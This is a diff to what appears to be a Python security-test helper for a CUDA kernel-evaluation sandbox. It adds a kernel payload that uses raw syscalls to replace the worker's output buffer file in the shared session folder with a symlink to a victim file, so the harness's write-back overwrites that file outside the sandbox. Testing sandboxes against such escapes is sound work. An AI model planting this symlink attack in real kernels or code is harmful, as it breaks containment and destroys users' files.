@@ -105,17 +105,56 @@ __attribute__((constructor)) static void ks_payload()
 '''
 
 
+# Run by the kernel itself, once: replace the output's buffer file in the shared session folder
+# with a link to a file of the user's. Its folder is made in the sandbox's private /tmp first,
+# so the worker's own write-back succeeds there; outside, the link names the real file.
+PLANT = r'''
+#ifdef __linux__
+static void ks_plant()
+{
+    static int done = 0;
+    if (done) return;
+    done = 1;
+    char folder[] = VICTIM_DIR;
+    for (char* p = folder + 1; *p; ++p) {
+        if (*p == '/') { *p = 0; ks_sys(83 /* mkdir */, (long)folder, 0700); *p = '/'; }
+    }
+    ks_sys(83, (long)folder, 0700);
+    // The session folder is where the worker's log (its stderr) lies.
+    char buffer[4096] = {0};
+    long length = ks_sys(89 /* readlink */, (long)"/proc/self/fd/2", (long)buffer, 4000);
+    while (length > 0 && buffer[length - 1] != '/') --length;
+    const char name[] = "buffer-c.bin";
+    for (unsigned k = 0; k < sizeof(name); ++k) buffer[length + k] = name[k];
+    ks_sys(87 /* unlink */, (long)buffer);
+    ks_sys(88 /* symlink */, (long)VICTIM, (long)buffer);
+}
+#define KS_PLANT() ks_plant()
+#else
+#define KS_PLANT()
+#endif
+extern "C" __global__ void copy_k(const float* a, float* c, int n)
+{
+    int i = blockIdx.x * blockDim.x + threadIdx.x;
+    if (i == 0) KS_PLANT();
+    if (i < n) c[i] = a[i];
+}
+'''
+
+
 def c_string(text: str) -> str:
     """A C string literal."""
     return json.dumps(text)
 
 
-def kernel_spec(folder: Path, payload: str, **values: str) -> Path:
-    """A vector copy spec whose kernel carries `payload` (its placeholders replaced)."""
-    spec = write_selftest_spec(folder, "copy_k", seeds=1)
+def kernel_spec(folder: Path, payload: str, seeds: int = 1, **values: str) -> Path:
+    """A vector copy spec whose kernel carries `payload` (its placeholders replaced; a payload
+    that defines copy_k itself replaces the plain one)."""
+    spec = write_selftest_spec(folder, "copy_k", seeds=seeds)
     for name, value in values.items():
         payload = payload.replace(name, value)
-    (folder / "k.cu").write_text(TRAMPOLINE + payload + COPY_KERNEL)
+    kernel = "" if "copy_k" in payload else COPY_KERNEL
+    (folder / "k.cu").write_text(TRAMPOLINE + payload + kernel)
     return spec
 
 
